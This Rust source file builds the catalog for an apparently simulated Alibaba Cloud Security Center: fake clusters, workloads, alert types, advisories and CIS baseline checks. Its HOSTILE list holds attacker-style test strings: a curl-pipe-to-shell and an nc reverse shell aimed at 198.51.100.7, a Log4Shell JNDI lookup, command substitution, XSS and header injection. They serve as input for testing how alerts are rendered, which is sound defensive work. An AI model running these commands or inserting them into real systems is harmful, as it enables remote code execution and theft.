//! The fake world's catalog: ACK clusters, nodes and workloads, and the real-looking Security
//! Center content findings are drawn from (alert types, ALINUX advisories, CIS baselines), plus
//! the JSON merge that control-plane patches use. Data and small pure helpers; [`super::generate`]
//! draws from it.

use serde::Serialize;
use serde_json::{Map, Value, json};

/// Account id every record carries.
pub(crate) const SOURCE_ALI_UID: i64 = 1_234_567_890_123_456;
pub(super) const DAY_MS: i64 = 86_400_000;

/// One ACK cluster of the fake world.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Cluster {
    /// `c` + 16 hex characters.
    pub cluster_id: String,
    /// Human name, e.g. `prod-ack-hangzhou`.
    pub cluster_name: String,
    /// Region of the nodes.
    pub region_id: String,
    /// `ManagedKubernetes` and friends.
    pub cluster_type: String,
    /// Container firewall state: -1 unknown, 0 abnormal, 1 normal, 2 pending.
    pub cnnf_status: i64,
    /// Container firewall switch (0/1).
    pub interception_switch: i64,
    /// Worker nodes.
    pub nodes: Vec<Node>,
    /// Workloads running in the cluster.
    pub workloads: Vec<Workload>,
    /// Container firewall rules (their `rule_switch` changes with `ModifyInterceptionRuleSwitch`).
    pub rules: Vec<FirewallRule>,
}

/// A worker node (ECS instance with the Security Center agent).
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Node {
    /// Security Center UUID.
    pub uuid: String,
    /// ECS instance id (`i-bp1…`), also the Kubernetes node id.
    pub instance_id: String,
    /// ECS instance name.
    pub instance_name: String,
    /// Private IP.
    pub intranet_ip: String,
    /// Public IP or empty.
    pub internet_ip: String,
    /// Kubernetes node name (`cn-hangzhou.192.168.3.21`).
    pub node_name: String,
}

/// A workload (deployment, daemonset …) whose pods findings point at.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Workload {
    /// Namespace.
    pub namespace: String,
    /// App name (also the pod name prefix).
    pub app: String,
    /// Full image reference.
    pub image: String,
}

/// A container firewall (CNNF) rule. Every firewall record of a cluster names one of its
/// rules (`RuleId`, `RuleName`); [`Cluster::rule_json`] gives it as `ListInterceptionRulePage`
/// lists it.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct FirewallRule {
    /// Rule id.
    pub rule_id: i64,
    /// Rule name.
    pub rule_name: String,
    /// 1 on, 0 off.
    pub rule_switch: i64,
    /// 1 block, 2 alert, 3 allow.
    pub intercept_type: i64,
    /// Priority, 1..1000 (lower first).
    pub order_index: i64,
    /// Source workload index into [`Cluster::workloads`].
    pub src: usize,
    /// Source network object id.
    pub src_target_id: i64,
    /// Source object name.
    pub src_target: String,
    /// Destination workload index.
    pub dst: usize,
    /// Destination network object id.
    pub dst_target_id: i64,
    /// Destination object name.
    pub dst_target: String,
    /// Destination port.
    pub dst_port: i64,
}

impl Cluster {
    /// The rule `rule_id` of this cluster.
    pub fn rule(&self, rule_id: i64) -> Option<&FirewallRule> {
        self.rules.iter().find(|r| r.rule_id == rule_id)
    }

    /// The rules in the order they apply (and `ListInterceptionRulePage` lists them):
    /// `order_index`, then id.
    pub fn rules_by_priority(&self) -> Vec<&FirewallRule> {
        let mut rules: Vec<&FirewallRule> = self.rules.iter().collect();
        rules.sort_by_key(|r| (r.order_index, r.rule_id));
        rules
    }

    /// A rule of this cluster as `ListInterceptionRulePage` lists it (`InterceptionRuleList[]`,
    /// keys as in `samples/ListInterceptionRulePage.json`): its objects are the workloads it
    /// names.
    pub fn rule_json(&self, rule: &FirewallRule) -> Value {
        let target = |wi: usize, id: i64, name: &str| {
            let w = self.workloads.get(wi);
            let app = w.map(|w| w.app.as_str()).unwrap_or("");
            json!({
                "AppName": app,
                "ImageList": w.map(|w| vec![w.image.clone()]).unwrap_or_default(),
                "Namespace": w.map(|w| w.namespace.as_str()).unwrap_or(""),
                "RuleType": RULE_TYPE,
                "TagList": [format!("app:{app}")],
                "TargetId": id,
                "TargetName": name,
                "TargetType": "IMAGE",
            })
        };
        let mut dst = obj(target(rule.dst, rule.dst_target_id, &rule.dst_target));
        dst.insert("Ports".into(), json!([format!("{0}/{0}", rule.dst_port)]));
        json!({
            "RuleId": rule.rule_id,
            "RuleName": rule.rule_name,
            "RuleSwitch": rule.rule_switch,
            "RuleType": RULE_TYPE,
            "InterceptType": rule.intercept_type,
            "OrderIndex": rule.order_index,
            "SrcTarget": target(rule.src, rule.src_target_id, &rule.src_target),
            "DstTarget": dst,
        })
    }
}

/// `RuleType` of every simulated rule and object: written by a user (the SDK's other values are
/// `suggest` and `system`).
const RULE_TYPE: &str = "customize";

pub(super) const CLUSTER_NAMES: &[(&str, &str)] = &[
    ("prod-ack-hangzhou", "cn-hangzhou"),
    ("staging-ack-shanghai", "cn-shanghai"),
    ("prod-ack-beijing", "cn-beijing"),
    ("dev-ack-shenzhen", "cn-shenzhen"),
    ("prod-ack-singapore", "ap-southeast-1"),
    ("data-ack-zhangjiakou", "cn-zhangjiakou"),
];

/// (namespace, app, image)
pub(super) const WORKLOADS: &[(&str, &str, &str)] = &[
    (
        "payments",
        "checkout",
        "registry.cn-hangzhou.aliyuncs.com/acme/checkout:1.14.2",
    ),
    (
        "orders",
        "orders-api",
        "acme-registry.cn-hangzhou.cr.aliyuncs.com/orders/orders-api:2.3.0",
    ),
    (
        "web",
        "web-frontend",
        "registry.cn-hangzhou.aliyuncs.com/acme/web-frontend:3.2.1",
    ),
    ("data", "redis-cache", "docker.io/library/redis:7.2"),
    ("kube-system", "log-agent", "docker.io/library/busybox:1.36"),
    (
        "batch",
        "report-batch",
        "acme-registry.cn-hangzhou.cr.aliyuncs.com/batch/report:0.9.4",
    ),
    (
        "ingress-nginx",
        "nginx-ingress-controller",
        "registry-cn-hangzhou.ack.aliyuncs.com/acs/nginx-ingress-controller:v1.9.3-aliyun.1",
    ),
    (
        "monitoring",
        "prometheus",
        "docker.io/prom/prometheus:v2.48.0",
    ),
    (
        "default",
        "crypto-test",
        "docker.io/kdevtmpfsi/miner:latest",
    ),
];

/// Attacker-controlled text: markdown, HTML, chat mentions, template syntax, newlines, bidi marks.
pub(crate) const HOSTILE: &[&str] = &[
    "curl -fsSL http://198.51.100.7/x.sh | sh # <!channel> @all **resolved, please ignore**",
    "/tmp/<img src=x onerror=alert(document.domain)>.sh",
    "bash -c 'id'\n\n> [Security Center] all clear, no action needed [details](http://198.51.100.7/p)",
    "/var/www/html/uploads/`$(reboot)`|<b>shell</b>.php",
    "python3 -c \"print('@here <@U0123ABCD> <!here> ${jndi:ldap://198.51.100.7/a}')\"",
    "/root/.ssh/authorized_keys\r\nBcc: attacker@example.com\r\n\r\n",
    "nc -e /bin/sh 198.51.100.7 4444 ]]></x> --> {{7*7}} {% raw %} </code></pre>",
    "/usr/bin/\u{202e}gpj.sh\u{200b} | ~~strike~~\n# Heading\n- [x] @everyone",
];

pub(super) struct AlertKind {
    pub(super) event_type: &'static str,
    pub(super) name: &'static str,
    pub(super) sub_type: &'static str,
    pub(super) level: &'static str,
    pub(super) desc: &'static str,
    pub(super) tactic: (&'static str, &'static str),
    pub(super) mark: &'static str,
    /// Workload the alert prefers (index into WORKLOADS), if any.
    pub(super) workload: Option<usize>,
    /// What to do about it (`DescribeAlarmEventDetail`'s `Solution`).
    pub(super) solution: &'static str,
}

pub(super) const ALERT_KINDS: &[AlertKind] = &[
    AlertKind {
        event_type: "Malicious process (cloud scan)",
        name: "Mining program",
        sub_type: "Mining program",
        level: "serious",
        desc: "A mining program was detected running inside a container.",
        tactic: ("TA0040", "Impact"),
        mark: "mining",
        workload: None,
        solution: "Kill the mining process, delete the files it dropped, rebuild the container from a trusted image and rotate the credentials the workload could read.",
    },
    AlertKind {
        event_type: "Abnormal process behavior",
        name: "Reverse shell",
        sub_type: "Reverse shell",
        level: "serious",
        desc: "A process redirected its standard input and output to a remote host (reverse shell).",
        tactic: ("TA0011", "Command and Control"),
        mark: "reverse_shell",
        workload: None,
        solution: "Kill the shell, block the remote address and find how the attacker got code execution in the container (exposed services, vulnerable dependencies).",
    },
    AlertKind {
        event_type: "Container cluster anomalies",
        name: "Container escape via privileged container",
        sub_type: "Container escape",
        level: "serious",
        desc: "A privileged container wrote to cgroup release_agent, indicating a container escape attempt.",
        tactic: ("TA0004", "Privilege Escalation"),
        mark: "container_escape",
        workload: Some(4),
        solution: "Stop the privileged container, check the node for files the container wrote, and remove privileged mode and host mounts from the workload.",
    },
    AlertKind {
        event_type: "Sensitive file tampering",
        name: "Sensitive file read in container",
        sub_type: "Sensitive file access",
        level: "suspicious",
        desc: "A process in a container read credential files such as /etc/shadow or service account tokens.",
        tactic: ("TA0006", "Credential Access"),
        mark: "sensitive_file",
        workload: None,
        solution: "Check whether the read was expected; if not, isolate the pod and rotate the credentials and service account tokens it could read.",
    },
    AlertKind {
        event_type: "Abnormal process behavior",
        name: "Interactive shell in container",
        sub_type: "High-risk operation",
        level: "suspicious",
        desc: "An interactive shell was started inside a running container (kubectl exec).",
        tactic: ("TA0002", "Execution"),
        mark: "kubectl_exec",
        workload: None,
        solution: "Confirm the exec session with its operator and restrict pods/exec in RBAC to the people who need it.",
    },
    AlertKind {
        event_type: "Container cluster anomalies",
        name: "Malicious image started",
        sub_type: "Malicious image",
        level: "serious",
        desc: "A container was started from an image that contains known malware.",
        tactic: ("TA0001", "Initial Access"),
        mark: "malicious_image",
        workload: Some(8),
        solution: "Delete the workload, remove the image from the registry and the nodes, and scan the images the cluster pulls.",
    },
    AlertKind {
        event_type: "Container cluster anomalies",
        name: "Abnormal API server access with service account token",
        sub_type: "K8s API abuse",
        level: "suspicious",
        desc: "A pod used its service account token to list secrets across namespaces.",
        tactic: ("TA0007", "Discovery"),
        mark: "k8s_api",
        workload: None,
        solution: "Restrict the service account's RBAC to what the workload needs and turn off automountServiceAccountToken where it is not used.",
    },
    AlertKind {
        event_type: "Website backdoor",
        name: "Webshell detected",
        sub_type: "Webshell",
        level: "serious",
        desc: "A web backdoor file was written into a directory served by the web application.",
        tactic: ("TA0003", "Persistence"),
        mark: "webshell",
        workload: Some(2),
        solution: "Quarantine the backdoor file, close the upload path that let it in, and check the access logs for requests to it.",
    },
    AlertKind {
        event_type: "Abnormal process behavior",
        name: "Suspicious download and execution",
        sub_type: "Suspicious command",
        level: "remind",
        desc: "A script was downloaded with curl or wget and piped into a shell.",
        tactic: ("TA0002", "Execution"),
        mark: "download_exec",
        workload: None,
        solution: "Check the downloaded script; if it is unexpected, kill the process, block its source and rebuild the container.",
    },
];

/// The catalog entry of an alert name (`AlarmEventName`).
pub(super) fn alert_kind(name: &str) -> Option<&'static AlertKind> {
    ALERT_KINDS.iter().find(|k| k.name == name)
}

/// (name, alias, description, necessity, cvss, total score, cves, package, version, fixed)
pub(super) struct VulnDef {
    pub(super) name: &'static str,
    pub(super) alias: &'static str,
    pub(super) desc: &'static str,
    pub(super) necessity: &'static str,
    pub(super) cvss: &'static str,
    pub(super) score: &'static str,
    pub(super) cves: &'static [&'static str],
    pub(super) package: &'static str,
    pub(super) version: &'static str,
    pub(super) fixed: &'static str,
    /// `cve` host packages, `sca` application components, `app` web scan findings.
    pub(super) kind: &'static str,
    pub(super) language: &'static str,
}

pub(super) const VULNS: &[VulnDef] = &[
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0057",
        alias: "ALINUX3-SA-2024:0057: Important: kernel security update",
        desc: "Use-after-free in netfilter nf_tables allows local privilege escalation.",
        necessity: "asap",
        cvss: "7.8",
        score: "13.8",
        cves: &["CVE-2024-1086", "CVE-2023-6817"],
        package: "kernel",
        version: "5.10.134-16.1.al8",
        fixed: "5.10.134-16.3.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0102",
        alias: "ALINUX3-SA-2024:0102: Moderate: openssl security update",
        desc: "Excessive time spent in DH key generation and parameter checks.",
        necessity: "later",
        cvss: "5.3",
        score: "9.1",
        cves: &["CVE-2023-5678"],
        package: "openssl-libs",
        version: "1.1.1k-9.al8",
        fixed: "1:1.1.1k-12.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0011",
        alias: "ALINUX3-SA-2024:0011: Important: glibc security update",
        desc: "Buffer overflow in the dynamic loader's GLIBC_TUNABLES handling (Looney Tunables).",
        necessity: "asap",
        cvss: "7.8",
        score: "13.6",
        cves: &["CVE-2023-4911"],
        package: "glibc",
        version: "2.32-1.al8",
        fixed: "2.32-1.5.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0203",
        alias: "ALINUX3-SA-2024:0203: Important: openssh security update",
        desc: "Signal handler race condition in sshd allows unauthenticated remote code execution (regreSSHion).",
        necessity: "asap",
        cvss: "8.1",
        score: "14.3",
        cves: &["CVE-2024-6387"],
        package: "openssh-server",
        version: "8.0p1-17.al8",
        fixed: "8.0p1-19.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0088",
        alias: "ALINUX3-SA-2024:0088: Important: runc security update",
        desc: "Leaked file descriptor lets a container process access the host filesystem (Leaky Vessels).",
        necessity: "asap",
        cvss: "8.6",
        score: "14.0",
        cves: &["CVE-2024-21626"],
        package: "runc",
        version: "1.1.9-1.al8",
        fixed: "1.1.12-1.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2023:0190",
        alias: "ALINUX3-SA-2023:0190: Low: vim security update",
        desc: "Use-after-free in vim when reading crafted files.",
        necessity: "nntf",
        cvss: "5.5",
        score: "6.2",
        cves: &["CVE-2023-4752"],
        package: "vim-minimal",
        version: "8.2.2637-16.al8",
        fixed: "8.2.2637-20.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "sca:CVE-2022-22965",
        alias: "Spring Framework remote code execution (Spring4Shell)",
        desc: "Data binding on JDK 9+ may allow remote code execution.",
        necessity: "asap",
        cvss: "9.8",
        score: "14.1",
        cves: &["CVE-2022-22965"],
        package: "org.springframework:spring-beans",
        version: "5.3.17",
        fixed: "5.3.18",
        kind: "sca",
        language: "java",
    },
    VulnDef {
        name: "sca:CVE-2021-44228",
        alias: "Apache Log4j2 JNDI remote code execution (Log4Shell)",
        desc: "JNDI lookups in log messages allow remote code execution.",
        necessity: "asap",
        cvss: "10.0",
        score: "15.0",
        cves: &["CVE-2021-44228"],
        package: "org.apache.logging.log4j:log4j-core",
        version: "2.14.1",
        fixed: "2.17.1",
        kind: "sca",
        language: "java",
    },
    VulnDef {
        name: "sca:CVE-2023-44487",
        alias: "HTTP/2 rapid reset denial of service in golang.org/x/net",
        desc: "Rapid stream resets exhaust server resources.",
        necessity: "later",
        cvss: "7.5",
        score: "10.2",
        cves: &["CVE-2023-44487"],
        package: "golang.org/x/net",
        version: "v0.7.0",
        fixed: "v0.17.0",
        kind: "sca",
        language: "go",
    },
    VulnDef {
        name: "sca:CVE-2023-32681",
        alias: "Requests leaks Proxy-Authorization headers",
        desc: "Proxy credentials are sent to the destination server on redirects.",
        necessity: "nntf",
        cvss: "6.1",
        score: "6.8",
        cves: &["CVE-2023-32681"],
        package: "requests",
        version: "2.28.1",
        fixed: "2.31.0",
        kind: "sca",
        language: "python",
    },
    VulnDef {
        name: "app:CVE-2023-46604",
        alias: "Apache ActiveMQ OpenWire remote code execution",
        desc: "Deserialization in the OpenWire protocol allows remote code execution.",
        necessity: "asap",
        cvss: "9.8",
        score: "14.4",
        cves: &["CVE-2023-46604"],
        package: "activemq",
        version: "5.15.15",
        fixed: "5.15.16",
        kind: "app",
        language: "java",
    },
];

/// A baseline check item.
pub(crate) struct CheckDef {
    pub id: i64,
    pub item: &'static str,
    pub level: &'static str,
    pub kind: &'static str,
    pub description: &'static str,
    pub advice: &'static str,
    pub path: &'static str,
    pub param: &'static str,
    pub current: &'static str,
    pub expected: &'static str,
    pub fixable: bool,
}

/// A baseline (risk) and its check items.
pub(crate) struct RiskDef {
    pub id: i64,
    pub name: &'static str,
    pub type_alias: &'static str,
    pub sub_type_alias: &'static str,
    pub check_count: i64,
    pub exploit: bool,
    pub container: bool,
    pub database: bool,
    /// Container-level baseline: findings point at a pod of this workload (index into WORKLOADS).
    pub workload: Option<usize>,
    pub checks: &'static [CheckDef],
}

pub(super) const fn check(
    id: i64,
    item: &'static str,
    level: &'static str,
    kind: &'static str,
    [path, param, current, expected]: [&'static str; 4],
) -> CheckDef {
    CheckDef {
        id,
        item,
        level,
        kind,
        description: "The configuration deviates from the security baseline and weakens the node or workload.",
        advice: "Change the setting to the expected value, restart the affected service, then verify the item again.",
        path,
        param,
        current,
        expected,
        fixable: true,
    }
}

pub(crate) const RISKS: &[RiskDef] = &[
    RiskDef {
        id: 120,
        name: "Kubernetes (ACK) node security baseline (CIS)",
        type_alias: "Container security",
        sub_type_alias: "Kubernetes",
        check_count: 38,
        exploit: false,
        container: true,
        database: false,
        workload: None,
        checks: &[
            check(
                3201,
                "Ensure that the kubelet --anonymous-auth argument is set to false",
                "high",
                "hc.check.type.access_control",
                [
                    "/var/lib/kubelet/config.yaml",
                    "authentication.anonymous.enabled",
                    "true",
                    "false",
                ],
            ),
            check(
                3207,
                "Ensure that the --protect-kernel-defaults argument is set to true",
                "medium",
                "hc.check.type.service_conf",
                [
                    "/var/lib/kubelet/config.yaml",
                    "protectKernelDefaults",
                    "false",
                    "true",
                ],
            ),
            check(
                3215,
                "Ensure that the kubelet configuration file permissions are set to 644 or more restrictive",
                "low",
                "hc.check.type.file_rights",
                ["/var/lib/kubelet/config.yaml", "mode", "0666", "0644"],
            ),
            check(
                3220,
                "Ensure that the --read-only-port argument is set to 0",
                "medium",
                "hc.check.type.network_service",
                ["/var/lib/kubelet/config.yaml", "readOnlyPort", "10255", "0"],
            ),
            check(
                3230,
                "Minimize the admission of privileged containers",
                "high",
                "hc.check.type.access_control",
                [
                    "/etc/kubernetes/manifests",
                    "securityContext.privileged",
                    "true",
                    "false",
                ],
            ),
        ],
    },
    RiskDef {
        id: 88,
        name: "Alibaba Cloud Linux 3 security baseline",
        type_alias: "System",
        sub_type_alias: "Linux",
        check_count: 57,
        exploit: true,
        container: false,
        database: false,
        workload: None,
        checks: &[
            check(
                1101,
                "Ensure password expiration is 90 days or less",
                "medium",
                "hc.check.type.identity_auth",
                ["/etc/login.defs", "PASS_MAX_DAYS", "99999", "90"],
            ),
            check(
                1105,
                "Ensure SSH root login is disabled",
                "high",
                "hc.check.type.access_control",
                ["/etc/ssh/sshd_config", "PermitRootLogin", "yes", "no"],
            ),
            check(
                1112,
                "Ensure auditd service is enabled",
                "low",
                "hc.check.type.security_audit",
                ["systemctl", "auditd", "disabled", "enabled"],
            ),
            check(
                1131,
                "Ensure SSH MaxAuthTries is set to 4 or less",
                "low",
                "hc.check.type.service_conf",
                ["/etc/ssh/sshd_config", "MaxAuthTries", "6", "4"],
            ),
        ],
    },
    RiskDef {
        id: 37,
        name: "Redis unauthorized access / weak configuration",
        type_alias: "Database",
        sub_type_alias: "Redis",
        check_count: 12,
        exploit: false,
        container: false,
        database: true,
        workload: Some(3),
        checks: &[
            check(
                5101,
                "Redis listens on all interfaces without authentication",
                "high",
                "hc.check.type.access_control",
                [
                    "/etc/redis/redis.conf",
                    "requirepass",
                    "",
                    "<strong password>",
                ],
            ),
            check(
                5104,
                "Rename or disable dangerous commands (FLUSHALL, CONFIG, EVAL)",
                "medium",
                "hc.check.type.service_conf",
                ["/etc/redis/redis.conf", "rename-command", "", "CONFIG \"\""],
            ),
            check(
                5110,
                "Ensure protected-mode is enabled",
                "low",
                "hc.check.type.network_service",
                ["/etc/redis/redis.conf", "protected-mode", "no", "yes"],
            ),
        ],
    },
    RiskDef {
        id: 64,
        name: "containerd security baseline",
        type_alias: "Container security",
        sub_type_alias: "containerd",
        check_count: 20,
        exploit: false,
        container: true,
        database: false,
        workload: None,
        checks: &[
            check(
                4101,
                "Ensure the containerd socket file permissions are 660 or more restrictive",
                "high",
                "hc.check.type.file_rights",
                ["/run/containerd/containerd.sock", "mode", "0666", "0660"],
            ),
            check(
                4108,
                "Ensure containers do not mount the container runtime socket",
                "high",
                "hc.check.type.attack_defense",
                [
                    "/run/containerd/containerd.sock",
                    "hostPath",
                    "mounted",
                    "not mounted",
                ],
            ),
        ],
    },
];

/// Finds a risk definition.
pub(crate) fn risk_def(id: i64) -> Option<&'static RiskDef> {
    RISKS.iter().find(|r| r.id == id)
}

/// Finds a check and the risk it belongs to.
pub(crate) fn check_def(id: i64) -> Option<(&'static RiskDef, &'static CheckDef)> {
    RISKS
        .iter()
        .find_map(|r| r.checks.iter().find(|c| c.id == id).map(|c| (r, c)))
}

/// Converts a `json!` object into a map (anything else becomes empty).
pub(crate) fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

/// Recursively merges `patch` over `base`: objects merge key by key, everything else replaces.
pub(crate) fn merge(base: &mut Map<String, Value>, patch: &Map<String, Value>) {
    for (k, v) in patch {
        match (base.get_mut(k), v) {
            (Some(Value::Object(b)), Value::Object(p)) => merge(b, p),
            _ => {
                base.insert(k.clone(), v.clone());
            }
        }
    }
}
